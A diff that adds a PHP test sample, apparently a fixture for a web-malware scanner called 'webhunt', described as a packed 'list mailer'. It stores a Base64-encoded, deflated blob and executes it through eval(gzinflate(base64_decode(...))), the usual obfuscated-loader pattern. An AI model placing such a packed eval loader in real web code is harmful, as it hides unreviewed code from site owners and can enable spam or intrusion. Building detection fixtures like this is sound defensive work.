@@ -1,0 +1,4 @@
+<?php
+// webhunt test sample (inert, packed variant): the same list mailer deflated and Base64-encoded
+$q = "TVFdS8NAEHzPr1hKShLSL1/TRlJEQVAQfBGslDTZ2IXLXbjbaIv4391LLPRektuZnd2ZWy7hGw/HXjMwOgZXtp1CiEmj5SSDEhRJuS1JoQXba2isaaGRqwOFDcMBHdUIxEHhkPdMLe4VtcTxKlkH4dCeQ+E74qisa4vOoVvwiSOPH0x9FpxkrKmFEc0uXIXMaBdHblWUeKpD7aVW66AxFuKQhgvIdwOVEQvxMC3xpTRN4CcAOSEb4bGldoTfQ/oQNQ9RA7Fj2xkXC2sGURElkOc5NKVyeBHwpzKaSfc49v2Owq37FGUR2FvsVFnJztP75+3j01RMDIKDu6thhc/xf9a2GnYGbZgq9B2iN4PJg+SbwWvfdcYybNz4U+BpeJkF6a9SUX2703eykyQy53OHmbzeiZc+q51+m79YMpb4nMHNTk+SaydDiml6MfIbYHU0MPHVbAQn6+AP";
+eval(gzinflate(base64_decode($q)));
